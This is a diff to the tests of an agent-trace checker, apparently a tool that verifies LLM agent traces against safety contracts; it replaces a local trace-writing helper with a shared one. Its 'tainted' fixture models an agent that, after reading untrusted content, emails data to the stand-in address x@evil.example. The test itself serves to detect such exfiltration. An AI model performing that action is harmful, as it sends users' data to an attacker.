@@ -11,7 +11,7 @@ import pytest
 from mattrace.cli import main
 from mattrace.io.openai_chat import import_openai, write_trace
 from mattrace.testing import doc, llm, retrieval, tool_call, trace, user
-from mattrace.tracefile import TraceWriter
+from tests.files import write_trace_file
 
 TAUBENCH = Path(__file__).parent / "data" / "taubench"
 
@@ -22,13 +22,6 @@ CONTRACTS = [no_untrusted_action(), max_calls("lookup", 5),
 NOT_CONTRACTS = [1, 2]
 '''
 
-
-def _write(t, path: Path) -> Path:
-    writer = TraceWriter(path, t)
-    for s in t.steps:
-        writer.write_step(s)
-    writer.seal(t.outcome)
-    return path
 
 
 @pytest.fixture
@@ -49,14 +42,14 @@ def tainted(tmp_path: Path) -> Path:
               tool_call("lookup", {"id": 1}),
               tool_call("send_email", {"to": "x@evil.example"}, side_effect=True, reads=[2]),
               name="desk/tainted")
-    return _write(t, tmp_path / "tainted.jsonl")
+    return write_trace_file(t, tmp_path / "tainted.jsonl")
 
 
 @pytest.fixture
 def clean(tmp_path: Path) -> Path:
     """A trace that satisfies the module's contracts."""
     t = trace(user("refund?"), tool_call("lookup", {"id": 1}), name="desk/clean")
-    return _write(t, tmp_path / "clean.jsonl")
+    return write_trace_file(t, tmp_path / "clean.jsonl")
 
 
 def test_check_passes_with_exit_0(clean: Path, contracts_module: str, capsys: pytest.CaptureFixture[str]) -> None:
